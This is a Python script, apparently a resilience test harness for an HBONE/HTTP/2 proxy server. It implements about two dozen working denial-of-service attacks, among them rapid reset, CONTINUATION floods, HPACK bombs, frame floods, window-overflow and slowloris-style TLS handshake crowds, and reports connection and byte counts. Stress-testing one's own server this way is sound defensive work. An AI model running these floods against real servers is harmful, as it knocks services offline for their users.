#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""One attack on an HBONE server, until SIGTERM: what a client with a valid certificate may send, as fast as its share of a processor
lets it; whenever it is thrown out it comes back. Says at the end how often it connected and how many bytes it sent, as JSON.

  attacks.py NAME ADDRESS CA CERT KEY SHARE"""
import itertools
import json
import os
import resource
import select
import signal
import socket
import ssl
import struct
import sys
import time
from types import SimpleNamespace

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path[:0] = [os.path.join(os.path.dirname(HERE), "e2e")]
from lib import h2
from lib.tls_client import HALF_HELLO, HELLO, trusting

ECHO, SOURCE, STALLED, DENIED, CLOSED = 8000, 8009, 9000, 9001, 7777
CONTINUATION = 9
BLOCK = 5000   # frames of a flood that are sent at once
ERRORS = (OSError, ssl.SSLError, ValueError, AttributeError, KeyError)


class Share:
    """Sleeps whenever this process has used more than its share."""

    def __init__(self, share):
        self.share, self.begin, self.used = share, time.monotonic(), time.process_time()
        self.done = {"connections": 0, "bytes": 0}

    def keep(self):
        ahead = (time.process_time() - self.used) / self.share - (time.monotonic() - self.begin)
        if ahead > 0:
            time.sleep(ahead)
        elif ahead < -1:  # what was not used is gone
            self.begin, self.used = time.monotonic(), time.process_time()


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


class Peer:
    """A connection of which the attack knows what comes back: frames are read, windows kept."""

    def __init__(self, a, window=1 << 24, read=True):
        here = SimpleNamespace(connect=lambda ip, port, timeout: socket.create_connection((ip, port), timeout))
        self.a, self.read, self.buf, self.owed = a, read, b"", b""
        self.h = h2.Client(here, a.ip, SimpleNamespace(cert=a.ca), a.cert, preface=False)
        a.share.done["connections"] += 1
        self.tls, self.next, self.window, self.initial = self.h.tls, 1, {0: 65535}, 65535
        self.tls.setblocking(False)
        self.send(h2.PREFACE + frame(h2.SETTINGS, 0, 0, struct.pack(">HI", 4, window))
                  + frame(h2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 26)))
        self.greeted = False

    def close(self):
        self.tls.close()

    def send(self, block):
        """All of it, reading meanwhile; raises when the server has had enough."""
        view = memoryview(block)
        while view:
            try:
                n = self.tls.send(view[:1 << 18])
                view, self.a.share.done["bytes"] = view[n:], self.a.share.done["bytes"] + n
            except ssl.SSLWantWriteError:
                self.events()
                select.select([], [self.tls], [], 0.2)
            self.a.share.keep()
        self.answer()

    def answer(self):
        """Not before what was begun is sent: TLS wants that again and nothing else."""
        if self.owed:
            block, self.owed = self.owed, b""
            self.send(block)

    def wait(self, seconds=0.2):
        if not self.tls.pending():
            select.select([self.tls], [], [], seconds)
        out = self.events()
        self.answer()
        return out

    def events(self):
        """[(kind, flags, stream, payload)] of what has come."""
        if not self.read:
            return []
        try:
            while chunk := self.tls.recv(1 << 16):
                self.buf += chunk
            raise ConnectionError("end of file")
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        out = []
        while len(self.buf) >= 9 and len(self.buf) >= 9 + (n := int.from_bytes(self.buf[:3], "big")):
            kind, flags, stream = self.buf[3], self.buf[4], int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            payload, self.buf = self.buf[9:9 + n], self.buf[9 + n:]
            self.take(kind, flags, stream, payload)
            out.append((kind, flags, stream, payload))
        return out

    def take(self, kind, flags, stream, payload):
        if kind == h2.SETTINGS and not flags & h2.ACK:
            for name, value in struct.iter_unpack(">HI", payload):
                self.initial = value if name == 4 else self.initial
            self.greeted = True
            self.owed += frame(h2.SETTINGS, h2.ACK, 0)
        elif kind == h2.WINDOW_UPDATE:
            self.window[stream] = self.window.get(stream, self.initial) + int.from_bytes(payload, "big")
        elif kind == h2.PING and not flags & h2.ACK:
            self.owed += frame(h2.PING, h2.ACK, 0, payload)
        elif kind == h2.DATA and payload and stream:
            self.owed += (frame(h2.WINDOW_UPDATE, 0, 0, struct.pack(">I", len(payload)))
                          + frame(h2.WINDOW_UPDATE, 0, stream, struct.pack(">I", len(payload))))
        elif kind == h2.GOAWAY:
            raise ConnectionError("GOAWAY")

    def connect_frame(self, port, *more):
        stream, self.next = self.next, self.next + 2
        host = f"[{self.a.ip}]" if ":" in self.a.ip else self.a.ip
        return stream, frame(h2.HEADERS, h2.END_HEADERS, stream,
                             h2.header_block([(":method", "CONNECT"), (":authority", f"{host}:{port}"), *more]))

    def open(self, port, count=1):
        """Streams that were answered."""
        ids, block = zip(*(self.connect_frame(port) for _ in range(count)))
        self.send(b"".join(block))
        left = set(ids)
        while left:
            for kind, _, stream, _ in self.wait(1):
                if kind in (h2.HEADERS, h2.RST_STREAM):
                    left.discard(stream)
        for stream in ids:
            self.window.setdefault(stream, self.initial)
        return ids

    def room(self, *streams):
        return min(self.window[0], sum(max(self.window[s], 0) for s in streams))

    def spend(self, stream, n):
        self.window[0] -= n
        self.window[stream] -= n


def again(fn):
    """An attack that is one connection, over and over."""

    def attack(a):
        while True:
            p = None
            try:
                p = Peer(a)
                fn(p)
            except ERRORS:
                a.share.keep()
            finally:
                if p:
                    p.close()

    return attack


def flood(block):
    """The same bytes for ever."""

    @again
    def attack(p):
        while not p.greeted:
            p.wait()
        bytes_ = block(p)
        while True:
            p.send(bytes_)
            p.events()

    return attack


def numbered(make, count=1000):
    """New streams for ever; make(p) is (stream, bytes)."""

    @again
    def attack(p):
        while not p.greeted:
            p.wait()
        while True:
            p.send(b"".join(make(p) for _ in range(count)))
            p.events()

    return attack


def reset_at_once(p):
    stream, block = p.connect_frame(ECHO)
    return block + frame(h2.RST_STREAM, 0, stream, struct.pack(">I", h2.CANCEL))


def overflow(p):
    stream, block = p.connect_frame(ECHO)
    return block + frame(h2.WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7FFFFFFF))


def answered(port, reset, at_once=100):
    """Requests for ever, so many under way; what was answered is reset, or has ended."""

    @again
    def attack(p):
        while not p.greeted:
            p.wait()
        p.send(b"".join(p.connect_frame(port)[1] for _ in range(at_once)))
        while True:
            out = []
            for kind, _, stream, _ in p.wait():
                if kind == h2.HEADERS:
                    out += [frame(h2.RST_STREAM, 0, stream, struct.pack(">I", h2.CANCEL))] if reset else []
                    out.append(p.connect_frame(port)[1])
            p.send(b"".join(out))
            p.a.share.keep()

    return attack


@again
def tiny_data(p):
    """As many bytes as the windows take, each in a frame of its own."""
    (stream,) = p.open(ECHO)
    one = frame(h2.DATA, 0, stream, b"x")
    while True:
        n = min(p.room(stream), BLOCK)
        if n > 0:
            p.spend(stream, n)
            p.send(one * n)
        p.wait(0 if n > 0 else 0.2)


@again
def empty_data(p):
    (stream,) = p.open(STALLED)
    while True:
        p.send(frame(h2.DATA, 0, stream) * BLOCK)
        p.events()


def crowd(make, count):
    """So many at once; each that ends is replaced."""

    def attack(a):
        all_ = {}
        poll = select.epoll()
        while True:
            while len(all_) < count:
                try:
                    s = make(a)
                except ERRORS:
                    a.share.keep()
                    break
                all_[s.fileno()] = s
                poll.register(s, select.EPOLLIN | select.EPOLLRDHUP)
                a.share.keep()
            for fd, _ in poll.poll(0.05):
                s = all_[fd]
                try:
                    s.setblocking(False)
                    over = not s.recv(4096)
                except (BlockingIOError, ssl.SSLWantReadError):
                    over = False
                except ERRORS:
                    over = True
                if over:
                    poll.unregister(fd)
                    all_.pop(fd).close()

    return attack


def silent(a):
    s = socket.create_connection((a.ip, 15008), 5)
    a.share.done["connections"] += 1
    return s


def half_hello(a):
    s = silent(a)
    s.sendall(HALF_HELLO)
    return s


def whole_hello(a):
    """The same one each time: it costs the attacker nothing."""
    s = silent(a)
    s.sendall(HELLO)
    return s


def tls_alone(a):
    return trusting(*a.cert).wrap_socket(silent(a))


def held(make, count):
    """So many connections that hold what they can; one that ends is replaced."""

    def attack(a):
        all_ = []
        while True:
            while len(all_) < count:
                try:
                    all_.append(make(a))
                except ERRORS:
                    time.sleep(0.1)
                    break
                a.share.keep()
            select.select([p.tls for p in all_], [], [], 0.2)
            for p in list(all_):
                try:
                    p.events()
                    p.answer()
                    if hasattr(p, "streams"):
                        fill(p, *p.streams)
                except ERRORS:
                    p.close()
                    all_.remove(p)
            a.share.keep()

    return attack


def fill(p, *streams):
    chunk = bytes(16384)
    while True:
        stream = max(streams, key=p.window.get)
        n = min(p.room(stream), len(chunk))
        if n <= 0:
            return
        p.spend(stream, n)
        p.send(frame(h2.DATA, 0, stream, chunk[:n]))
        p.events()


def stalled_upload(a):
    p = Peer(a)
    p.streams = p.open(STALLED, 4)
    fill(p, *p.streams)
    return p


def unread_download(a):
    p = Peer(a)
    p.send(b"".join(p.connect_frame(SOURCE)[1] for _ in range(190)))
    p.read = False
    return p


def shut_window(a):
    p = Peer(a, window=0)
    p.open(SOURCE, 190)
    return p


@again
def continuation(p):
    while not p.greeted:
        p.wait()
    p.send(frame(h2.HEADERS, 0, 1, h2.header_block([(":method", "CONNECT")])))
    for _ in itertools.count():
        p.send(frame(CONTINUATION, 0, 1, h2.header_block([("x-a", "b" * 1000)])) * 100)
        p.events()


@again
def bomb(p):
    """A large field in the decoder's table, named by single bytes."""
    while not p.greeted:
        p.wait()
    block = (h2.header_block([(":method", "CONNECT"), (":authority", f"{p.a.ip}:{ECHO}")])
             + b"\x40\x01x" + h2.hpack_int(4000, 7) + b"v" * 4000)
    for stream in itertools.count(1, 2):
        p.send(frame(h2.HEADERS, h2.END_HEADERS, stream, block + bytes([0x80 | 62]) * (16384 - len(block))))
        p.events()


@again
def header_lists(p):
    """Just over what is taken; small enough that the connection goes on."""
    while not p.greeted:
        p.wait()
    while True:
        stream, first = p.connect_frame(ECHO)
        block = first[9:] + h2.header_block([(f"x-{i}", "v" * 1000) for i in range(64)])
        parts = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        p.send(b"".join(frame(CONTINUATION if i else h2.HEADERS, h2.END_HEADERS if i == len(parts) - 1 else 0, stream, part)
                        for i, part in enumerate(parts)))
        p.events()


@again
def garbage(p):
    p.send(os.urandom(20000))
    p.wait()


ATTACKS = {
    "DATA frames of 1 byte, echoed": tiny_data,
    "empty DATA frames, stalled app": empty_data,
    "uploads to a stalled app, 10 connections": held(stalled_upload, 10),
    "downloads never read, 190 streams": held(unread_download, 1),
    "windows that stay shut, 190 streams": held(shut_window, 1),
    "half a ClientHello, 3,000": crowd(half_hello, 3000),
    "a ClientHello and no more, 3,000": crowd(whole_hello, 3000),
    "silent TCP, 3,000": crowd(silent, 3000),
    "TLS and no more, 1,000": crowd(tls_alone, 1000),
    "SETTINGS": flood(lambda p: frame(h2.SETTINGS, 0, 0) * BLOCK),
    "PING": flood(lambda p: frame(h2.PING, 0, 0, bytes(8)) * BLOCK),
    "WINDOW_UPDATE": flood(lambda p: frame(h2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * BLOCK),
    "PRIORITY": flood(lambda p: frame(2, 0, 1, bytes(5)) * BLOCK),
    "unknown frames": flood(lambda p: frame(0xBB, 0, 0) * BLOCK),
    "rapid reset": numbered(reset_at_once),
    "resets after the answer": answered(ECHO, True),
    "requests with a :path": numbered(lambda p: p.connect_frame(ECHO, (":path", "/"))[1]),
    "windows that overflow": numbered(overflow),
    "CONTINUATION without end": continuation,
    "HPACK bombs": bomb,
    "header lists that are too large": header_lists,
    "CONNECT that policy refuses": answered(DENIED, False),
    "CONNECT to a closed port": answered(CLOSED, False),
    "garbage instead of HTTP/2": garbage,
}


def main():
    name, ip, ca, cert, key, share = sys.argv[1:]
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    share = Share(float(share))

    def end(number, frame):
        print(json.dumps(share.done), flush=True)
        os._exit(0)

    signal.signal(signal.SIGTERM, end)
    ATTACKS[name](SimpleNamespace(ip=ip, ca=ca, cert=(cert, key), share=share))


if __name__ == "__main__":
    main()
